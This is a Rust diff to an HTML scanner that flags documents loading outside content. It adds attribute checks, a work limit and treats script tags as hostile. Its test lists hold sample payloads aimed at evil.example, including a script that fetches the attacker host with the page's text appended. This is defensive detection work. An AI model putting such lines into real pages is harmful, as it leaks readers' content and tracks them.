@@ -47,20 +47,25 @@ fn has_remote_style(html: &[u8]) -> bool {
 /// Returns true if something that stands like an attribute names an address outside; wherever it stands, because what is a
 /// comment or a value for one program is a tag for another.
 fn has_remote_attribute(html: &[u8]) -> bool {
+    // Values do not lie in each other in HTML that a program wrote, or only a few do.
+    let mut left = html.len().saturating_mul(MAX_OVERLAP);
     memchr::memchr_iter(b'=', html).any(|at| {
         let before = html.get(at.saturating_sub(MAX_NAME)..at).unwrap_or_default();
         let before = before.trim_ascii_end();
         let start = before.iter().rposition(|byte| !is_name(*byte)).map_or(0, |at| at + 1);
         let name = before.get(start..).unwrap_or_default();
         // `?src=1&data=2` is a part of an address.
-        let stands_alone = start
-            .checked_sub(1)
-            .and_then(|at| before.get(at))
-            .is_none_or(|byte| byte.is_ascii_whitespace() || matches!(byte, b'/' | b'"' | b'\''));
+        let stands_alone = start.checked_sub(1).and_then(|at| before.get(at)).is_none_or(|byte| {
+            byte.is_ascii_whitespace() || matches!(byte, b'/' | b'"' | b'\'' | b'(' | b',')
+        });
+        if !stands_alone || !LOADING.contains(&name) {
+            return false;
+        }
         let after = html.get(at + 1..).unwrap_or_default().trim_ascii_start();
         let value = value_of(after.get(..MAX_VALUE).unwrap_or(after));
+        left = left.saturating_sub(value.len());
         let is_address = has(value, b"//") || has(value, b"url=") || name == b"srcdoc";
-        stands_alone && is_address && loads_outside(b"", name, value)
+        left == 0 || is_address && loads_outside(b"", name, value)
     })
 }
 
@@ -81,10 +86,16 @@ fn has_remote_tag(html: &[u8]) -> bool {
         if rest.first().is_some_and(u8::is_ascii_alphabetic) {
             let mut tag = Tag::start(rest);
             let name = tag.name();
+            // A program, but for the data of search engines.
+            let mut is_program = name == b"script";
             while let Some((attribute, value)) = tag.attribute() {
                 if loads_outside(name, attribute, value) {
                     return true;
                 }
+                is_program &= !(attribute == b"type" && value.ends_with(b"json"));
+            }
+            if is_program {
+                return true;
             }
             rest = tag.rest;
         }
@@ -116,9 +127,9 @@ fn loads_outside(tag: &[u8], attribute: &[u8], value: &[u8]) -> bool {
     match attribute {
         b"href" | b"xlink:href" => !matches!(tag, b"a" | b"area" | b"") && !is_inside(value),
         b"srcset" | b"imagesrcset" => !is_set_inside(value),
-        b"action" | b"archive" | b"background" | b"classid" | b"codebase" | b"data" | b"dynsrc"
-        | b"formaction" | b"icon" | b"lowsrc" | b"manifest" | b"ping" | b"poster" | b"src"
-        | b"xml:base" => !is_inside(value),
+        b"action" | b"archive" | b"attributionsrc" | b"background" | b"classid" | b"codebase"
+        | b"data" | b"dynsrc" | b"formaction" | b"icon" | b"lowsrc" | b"manifest" | b"ping"
+        | b"poster" | b"src" | b"xml:base" => !is_inside(value),
         // What an animation gives to another attribute, which may be an address.
         b"by" | b"from" | b"to" | b"values" => has(value, b"//"),
         // What a plugin is given.
@@ -151,8 +162,10 @@ fn is_set_inside(value: &[u8]) -> bool {
 
 /// Returns true if an address leads into the message itself, or nowhere. Data that is a document has addresses of its own.
 fn is_inside(value: &[u8]) -> bool {
-    let value = value.trim_ascii();
+    // What stands behind it may be the rest of the document.
+    let value = value.trim_ascii_start();
     if let Some(data) = value.strip_prefix(b"data:") {
+        let data = data.get(..MAX_NAME).unwrap_or(data);
         let kind = data.split(|byte| matches!(byte, b';' | b',')).next().unwrap_or_default();
         let is_picture = kind.starts_with(b"image/") && !kind.starts_with(b"image/svg");
         return is_picture || kind.starts_with(b"font/") || kind == b"application/font-woff";
@@ -260,6 +273,34 @@ impl<'h> Tag<'h> {
     }
 }
 
+/// Attributes that can be loaded without a tag that is known; see [`loads_outside`].
+const LOADING: [&[u8]; 24] = [
+    b"action",
+    b"archive",
+    b"attributionsrc",
+    b"background",
+    b"by",
+    b"classid",
+    b"codebase",
+    b"content",
+    b"data",
+    b"dynsrc",
+    b"formaction",
+    b"from",
+    b"icon",
+    b"imagesrcset",
+    b"lowsrc",
+    b"manifest",
+    b"ping",
+    b"poster",
+    b"src",
+    b"srcdoc",
+    b"srcset",
+    b"to",
+    b"values",
+    b"xml:base",
+];
+
 /// Tags whose `href` is loaded.
 const LOADING_LINKS: [&[u8]; 6] = [b"<link", b"<base", b"<image", b"<use", b"<feimage", b"<script"];
 
@@ -282,6 +323,9 @@ const NAMED: [(&[u8], u8); 13] = [
 
 /// The longest name of an attribute that is looked for, with white space before the `=`.
 const MAX_NAME: usize = 64;
+
+/// How often the bytes of a document may be looked at as values of attributes, before it counts as hostile.
+const MAX_OVERLAP: usize = 4;
 
 /// What is looked at of a value: a picture inside may be large.
 const MAX_VALUE: usize = 2_048;
@@ -357,6 +401,9 @@ mod tests {
             "<img/src=http://evil.example/>",
             "<svg><animate xlink:href=#x attributeName=href values=http://evil.example /><image id=x /></svg>",
             "<svg><set attributeName=href to=//evil.example /></svg>",
+            "<img src=cid:1 attributionsrc=//evil.example>",
+            "<div style=\"filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='http://evil.example/')\">",
+            "<script>fetch('//evil.example/'+document.body.innerText)</script>",
             "<object><param name=movie value=http://evil.example></object>",
         ] {
             assert!(calls_home(html.as_bytes(), false), "{html}");
@@ -384,6 +431,8 @@ mod tests {
             "<style>@font-face { font-family: \"\\FF2D\\FF33 Mincho\"; panose-1:2 11 6 9 } p { font-family:\"\\@SimSun\" }</style>",
             "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">",
             "<meta name=viewport content=\"width=device-width, initial-scale=1\"><meta name=Generator content=\"Microsoft Word 15\">",
+            "<script type=\"application/ld+json\">{\"@context\":\"http://schema.org\"}</script>",
+            "<p>(data = https, //) and so=on</p>",
             "<form><input name=a value=\"http://acme.example/\"></form>",
             "a == b and x = y, &#228; &uuml; &nbsp; C:\\temp",
             "<",
@@ -406,8 +455,17 @@ mod tests {
             "srcset=",
             "srcset=\",",
             "url(cid:",
+            "url(data:image/a",
+            "=",
+            "&=",
+            "src==",
+            "/src=cid:a",
+            " src='\"",
         ] {
-            calls_home(&piece.repeat(2_000_000 / piece.len()).into_bytes(), false);
+            let mut html = piece.repeat(500_000 / piece.len()).into_bytes();
+            calls_home(&html, false);
+            html.extend(vec![b' '; 100_000]);
+            calls_home(&html, false);
         }
     }
 }
